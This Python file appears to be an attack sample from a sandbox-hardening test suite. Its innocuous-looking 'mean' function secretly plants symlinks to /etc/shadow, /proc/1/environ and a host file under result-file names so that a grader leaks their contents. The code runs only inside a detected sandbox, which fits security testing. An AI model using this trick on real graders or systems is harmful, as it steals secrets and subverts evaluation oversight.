"""Leaves links to the host's files wherever it may write, for a grader that collects results.

Attacks: B6, W17
"""

# ruff: noqa
try:  # an attack runs behind the wall and nowhere else
    _status = dict(_line.split(":\t", 1) for _line in open("/proc/self/status") if ":\t" in _line)
    _behind = (
        _status["Uid"].split()[0] != "0"
        and _status["NoNewPrivs"].strip() == "1"
        and _status["Seccomp"].strip() == "2"
        and open("/proc/sys/kernel/hostname").read() == "sandbox\n"
    )
except (OSError, KeyError):
    _behind = False
if not _behind:
    raise SystemExit(77)

import os
import re

CANARY = re.compile(rb"canary-[a-z]+-[0-9a-f]{24}")


def look(place, data):
    for hit in set(CANARY.findall(data)):
        print("WON:", place, hit.decode(), flush=True)


def search():
    for folder in ("/tmp", "/dev/shm", "/sub", "/boot"):
        for name in ("result.json", "report.xml", "feedback.html", "toy.py", "core"):
            for target in ("@HOST_FILE@", "/etc/shadow", "/proc/1/environ"):
                try:
                    os.symlink(target, os.path.join(folder, name))
                    if folder in ("/sub", "/boot"):
                        print("WON: wrote in", folder, flush=True)
                except OSError:
                    continue


def mean(numbers):
    search()
    return 0.0


def spread(numbers):
    return 0.0
